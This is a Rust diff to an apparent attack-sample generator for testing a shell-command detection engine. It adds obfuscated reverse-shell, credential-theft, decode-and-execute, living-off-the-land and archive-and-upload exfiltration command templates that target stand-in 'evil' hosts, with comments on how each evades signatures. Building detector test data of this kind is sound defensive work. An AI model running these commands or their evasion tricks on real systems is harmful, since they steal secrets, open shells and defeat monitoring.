@@ -28,17 +28,42 @@ pub enum AttackFamily {
     DownloadExec,
     /// Credential/secret exfiltration (`cat /etc/shadow`, …).
     CredentialTheft,
+    /// Known-bad commands hidden behind quote splicing or parameter
+    /// expansion (`n'c' -l'v'np`, `${x:-n}c -lvnp`).
+    QuotingObfuscation,
+    /// Decode-and-execute chains where the decoder is pushed inside a
+    /// command substitution (`eval $(echo … | base64 -d)`).
+    ObfuscatedDecode,
+    /// Living-off-the-land abuse of benign tooling (`find -exec`,
+    /// `awk system()`, `tar --checkpoint-action`).
+    LivingOffTheLand,
+    /// Multi-command archive-and-upload exfiltration chains.
+    ExfilChain,
 }
 
 impl AttackFamily {
     /// All families.
-    pub const ALL: [AttackFamily; 6] = [
+    pub const ALL: [AttackFamily; 10] = [
         AttackFamily::ReverseShell,
         AttackFamily::PortScan,
         AttackFamily::Base64Exec,
         AttackFamily::ProxyHijack,
         AttackFamily::DownloadExec,
         AttackFamily::CredentialTheft,
+        AttackFamily::QuotingObfuscation,
+        AttackFamily::ObfuscatedDecode,
+        AttackFamily::LivingOffTheLand,
+        AttackFamily::ExfilChain,
+    ];
+
+    /// The obfuscated families added with the full-grammar parser; their
+    /// out-of-box variants specifically exercise quoting, expansion and
+    /// substitution tricks that flat token signatures cannot see.
+    pub const OBFUSCATED: [AttackFamily; 4] = [
+        AttackFamily::QuotingObfuscation,
+        AttackFamily::ObfuscatedDecode,
+        AttackFamily::LivingOffTheLand,
+        AttackFamily::ExfilChain,
     ];
 }
 
@@ -51,6 +76,10 @@ impl fmt::Display for AttackFamily {
             AttackFamily::ProxyHijack => "proxy-hijack",
             AttackFamily::DownloadExec => "download-exec",
             AttackFamily::CredentialTheft => "credential-theft",
+            AttackFamily::QuotingObfuscation => "quoting-obfuscation",
+            AttackFamily::ObfuscatedDecode => "obfuscated-decode",
+            AttackFamily::LivingOffTheLand => "living-off-the-land",
+            AttackFamily::ExfilChain => "exfil-chain",
         };
         f.write_str(s)
     }
@@ -225,6 +254,82 @@ impl AttackGenerator {
                 )],
                 _ => vec!["history | grep -i passw".to_string()],
             },
+            // In-box: quote splicing splits the signature token across
+            // quoted segments, but the parser resolves quotes before the
+            // rules run, so the signatures still fire.
+            (AttackFamily::QuotingObfuscation, Variant::InBox) => match rng.gen_range(0..3) {
+                0 => vec![format!("n'c' -lvnp {}", port(rng))],
+                1 => vec![format!(
+                    "b\"a\"sh -i >& \"/dev/tcp/{}/{}\" 0>&1",
+                    ip(rng),
+                    port(rng)
+                )],
+                _ => vec!["ca''t /etc/shadow".to_string()],
+            },
+            // Out-of-box: parameter expansion keeps the signature token
+            // out of the *resolved* text too — `${x:-n}c` only becomes
+            // `nc` at execution time, which the parser cannot see.
+            (AttackFamily::QuotingObfuscation, Variant::OutOfBox) => match rng.gen_range(0..3) {
+                0 => vec![format!("${{x:-n}}c -lvnp {}", port(rng))],
+                1 => vec![format!(
+                    "bash -i >& /dev/${{t:-tcp}}/{}/{} 0>&1",
+                    ip(rng),
+                    port(rng)
+                )],
+                _ => vec!["${c:-cat} /etc/shadow".to_string()],
+            },
+            // In-box: the decode pipeline is visible at the top level, so
+            // the base64|shell pipeline signature fires.
+            (AttackFamily::ObfuscatedDecode, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec![format!("printf {} | base64 -d | bash", b64ish(rng))],
+                _ => vec![format!("echo {} | base64 -d | bash -s", b64ish(rng))],
+            },
+            // Out-of-box: the same pipeline moved inside a command
+            // substitution — top-level base names are just `eval`/`bash`,
+            // so the pipeline-sequence signature never sees `base64`.
+            (AttackFamily::ObfuscatedDecode, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                0 => vec![format!("eval $(echo {} | base64 -d)", b64ish(rng))],
+                _ => vec![format!("bash -c \"$(echo {} | base64 -d)\"", b64ish(rng))],
+            },
+            // In-box: canonical GTFOBins-style abuse of benign tooling.
+            (AttackFamily::LivingOffTheLand, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec!["find / -name id_rsa -exec cat {} \\;".to_string()],
+                _ => vec!["awk 'BEGIN{system(\"/bin/sh\")}'".to_string()],
+            },
+            // Out-of-box: glob the filename, switch the interpreter, or
+            // use a tar escape no signature covers.
+            (AttackFamily::LivingOffTheLand, Variant::OutOfBox) => match rng.gen_range(0..3) {
+                0 => vec!["find / -name 'id_?sa' -exec cat {} \\;".to_string()],
+                1 => vec!["gawk 'BEGIN{system(\"/bin/sh\")}'".to_string()],
+                _ => vec![
+                    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh"
+                        .to_string(),
+                ],
+            },
+            // In-box: streaming archive piped straight into an upload.
+            (AttackFamily::ExfilChain, Variant::InBox) => match rng.gen_range(0..2) {
+                0 => vec![format!(
+                    "tar czf - /etc/passwd | curl -T - ftp://{}/up/",
+                    evil_host(rng)
+                )],
+                _ => vec![format!(
+                    "tar czf - /root/.ssh | curl -T - ftp://{}/drop/",
+                    evil_host(rng)
+                )],
+            },
+            // Out-of-box: stage to a file first — either as one `&&`
+            // one-liner or as two temporally adjacent lines — so the
+            // streaming-pipe signature never matches.
+            (AttackFamily::ExfilChain, Variant::OutOfBox) => match rng.gen_range(0..2) {
+                0 => vec![format!(
+                    "cd /tmp && tar czf .x.tgz /etc/passwd && curl -s -T .x.tgz https://{}/drop && rm .x.tgz",
+                    evil_host(rng)
+                )],
+                _ => vec![
+                    "tar czf /tmp/.x.tgz /etc/passwd /root/.ssh".to_string(),
+                    format!("curl -s -T /tmp/.x.tgz https://{}/drop", evil_host(rng)),
+                ],
+            },
         };
         AttackSample {
             lines,
@@ -316,5 +421,83 @@ mod tests {
     fn family_display_is_kebab() {
         assert_eq!(AttackFamily::ReverseShell.to_string(), "reverse-shell");
         assert_eq!(AttackFamily::Base64Exec.to_string(), "base64-exec");
+        assert_eq!(
+            AttackFamily::QuotingObfuscation.to_string(),
+            "quoting-obfuscation"
+        );
+        assert_eq!(
+            AttackFamily::LivingOffTheLand.to_string(),
+            "living-off-the-land"
+        );
+    }
+
+    #[test]
+    fn obfuscated_families_are_a_subset_of_all() {
+        for f in AttackFamily::OBFUSCATED {
+            assert!(AttackFamily::ALL.contains(&f));
+        }
+        assert_eq!(AttackFamily::ALL.len(), 10);
+    }
+
+    #[test]
+    fn quoting_obfuscation_resolves_to_signature_text() {
+        // The spliced in-box variants must still *resolve* to the known
+        // tool names once quotes are removed — that is what keeps them
+        // in-box for a parser-backed rule engine.
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(21);
+        for _ in 0..40 {
+            let s = g.generate(&mut rng, AttackFamily::QuotingObfuscation, Variant::InBox);
+            let line = &s.lines[0];
+            let script = shell_parser::parse(line).expect("in-box obfuscation parses");
+            let resolved = script.simple_commands()[0].words[0].text.clone();
+            assert!(
+                ["nc", "bash", "cat"].contains(&resolved.as_str()),
+                "unexpected resolved name {resolved:?} for {line}"
+            );
+            // ...while the raw line never contains the plain name as a word.
+            assert_ne!(line.split_whitespace().next(), Some(resolved.as_str()));
+        }
+    }
+
+    #[test]
+    fn expansion_obfuscation_keeps_signature_out_of_resolved_text() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(22);
+        for _ in 0..40 {
+            let s = g.generate(
+                &mut rng,
+                AttackFamily::QuotingObfuscation,
+                Variant::OutOfBox,
+            );
+            let line = &s.lines[0];
+            let script = shell_parser::parse(line).expect("out-of-box obfuscation parses");
+            // Unlike quote splicing, `${…}` stays literal in the resolved
+            // text of whatever word (or redirect target) carries it.
+            let keeps_expansion = script.simple_commands().iter().any(|c| {
+                c.words.iter().any(|w| w.text.contains("${"))
+                    || c.redirects.iter().any(|r| r.target.text.contains("${"))
+            });
+            assert!(
+                keeps_expansion,
+                "expansion should survive into resolved text: {line}"
+            );
+        }
+    }
+
+    #[test]
+    fn staged_exfil_can_span_two_lines() {
+        let g = AttackGenerator::new();
+        let mut rng = StdRng::seed_from_u64(23);
+        let mut saw_multi = false;
+        for _ in 0..50 {
+            let s = g.generate(&mut rng, AttackFamily::ExfilChain, Variant::OutOfBox);
+            if s.lines.len() == 2 {
+                assert!(s.lines[0].starts_with("tar "));
+                assert!(s.lines[1].starts_with("curl "));
+                saw_multi = true;
+            }
+        }
+        assert!(saw_multi, "the staged two-line exfil should occur");
     }
 }
